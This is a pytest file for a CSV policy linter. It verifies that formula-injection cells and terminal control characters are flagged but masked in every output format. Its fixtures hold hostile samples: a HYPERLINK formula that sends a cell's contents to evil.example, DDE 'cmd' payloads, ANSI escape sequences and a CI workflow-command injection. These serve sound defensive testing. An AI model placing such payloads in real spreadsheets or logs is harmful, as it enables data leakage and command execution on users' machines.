"""Formula injection and control characters in outputs.

A batch cell that a spreadsheet would run (= + - @ TAB CR) is reported, but its
content reaches a finding only masked; every output format parses and carries
no raw control character, even with --show-values; and the one helper meant for
CSV-like output escapes leading formula characters.
"""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from policylint.reporters.base import spreadsheet_safe
from tests.property.support import (
    COLUMNS,
    HEADER,
    Project,
    assert_cli_contract,
    csv_text,
    good_row,
    invoke,
    make_project,
)

PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Zq7click")',
    "+": "+Zq7cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C Zq7calc'!A0",
    "@": "@SUM(Zq7A1:A9)",
    "\t": "\t=Zq7tabbed()",
    "\r": "\r=Zq7carriage()",
}
MARK = "Zq7"
CONTROL = "\x1b[31mZq7red\x1b[0m\x07\x0b\x0c\x7f\x9b"
FORMATS = ("text", "json", "sarif", "junit", "github")


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Project:
    proj = make_project(tmp_path_factory.mktemp("escaping"))
    rows: list[list[str]] = []
    for n, payload in enumerate(PAYLOADS.values(), start=1):
        for column in ("address_line_2", "account_ref", "email"):
            cells = good_row(n * 10 + len(rows)).rstrip("\n").split(",")
            cells[COLUMNS.index(column)] = payload
            rows.append(cells)
    cells = good_row(99).rstrip("\n").split(",")
    cells[COLUMNS.index("address_line_3")] = CONTROL
    cells[COLUMNS.index("recipient_id")] = "P-\x1b]0;Zq7title\x07"
    rows.append(cells)
    (proj.root / "batch.csv").write_text(HEADER + csv_text(rows), encoding="utf-8")
    return proj


def _raw_controls(text: str, allowed: str = "\n") -> list[str]:
    return sorted({c for c in text if (ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0)
                   and c not in allowed})


@pytest.mark.parametrize("fmt", FORMATS)
def test_formula_cells_are_reported_and_masked(project: Project, fmt: str) -> None:
    out = project.root / f"report.{fmt}"
    result = invoke(project.check_args(project.root / "batch.csv", "--format", fmt,
                                       "-o", str(out)))
    assert_cli_contract(result)
    assert result.exit_code == 1, result.output
    report = out.read_text(encoding="utf-8")
    assert "formula" in report  # the cells were flagged...
    assert MARK not in report  # ...but no payload reached the report
    assert "HYPERLINK" not in report and "cmd|" not in report
    assert _raw_controls(report) == []


def _parse(fmt: str, text: str) -> None:
    if fmt == "junit":
        ET.fromstring(text)
    elif fmt in ("json", "sarif"):
        data = json.loads(text)
        if fmt == "sarif":
            assert data["version"] == "2.1.0"
            assert data["runs"][0]["results"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_outputs_parse_and_carry_no_raw_controls_even_with_show_values(project: Project,
                                                                        fmt: str) -> None:
    out = project.root / f"shown.{fmt}"
    result = invoke(project.check_args(project.root / "batch.csv", "--format", fmt,
                                       "--show-values", "-o", str(out)))
    assert_cli_contract(result)
    text = out.read_text(encoding="utf-8")
    _parse(fmt, text)
    assert _raw_controls(text) == [], fmt
    if fmt == "github":
        # One workflow command per finding: nothing a cell holds starts another line.
        findings = json.loads(invoke(project.check_args(
            project.root / "batch.csv", "--format", "json", "--show-values")).stdout)["findings"]
        # Past GitHub's 10 annotations per kind and step, findings are plain log lines,
        # followed by one notice per kind saying how many.
        lines = text.splitlines()
        notices = [line for line in lines if line.startswith("::notice title=policylint::")]
        assert len(findings) > 0
        assert len(lines) == len(findings) + len(notices) + 1  # plus the summary line


@pytest.mark.parametrize("fmt", FORMATS)
def test_stdout_carries_no_raw_controls(project: Project, fmt: str) -> None:
    result = invoke(project.check_args(project.root / "batch.csv", "--format", fmt,
                                       "--show-values"))
    assert_cli_contract(result)
    assert _raw_controls(result.stdout) == []
    _parse(fmt, result.stdout)


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+2", "'=1+2"), ("+44", "'+44"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=x", "'\\t=x"), ("\r=x", "'\\r=x"), ("plain", "plain"), ("", ""),
    ("a=b", "a=b"), ("\x1b[31m", "\\x1b[31m"),
])
def test_spreadsheet_safe_escapes_leading_formula_characters(value: str, expected: str) -> None:
    out = spreadsheet_safe(value)
    assert out == expected
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert _raw_controls(out, allowed="") == []


def test_error_line_escapes_control_characters_from_a_policy_key(tmp_path: Path) -> None:
    """Found by atheris: a YAML key that is a line break split the one-line error (and
    could have started a `::workflow-command` line in a CI log)."""
    project = make_project(tmp_path)
    (project.root / "batch.csv").write_text(HEADER + good_row(1), encoding="utf-8")
    project.policy.write_text('version: 1\n"\\n::error::Zq7": 1\n', encoding="utf-8")
    result = invoke(project.check_args(project.root / "batch.csv"))
    assert_cli_contract(result)
    assert result.exit_code == 2
    assert len(result.stderr.splitlines()) == 1
    assert "\\n::error::" in result.stderr
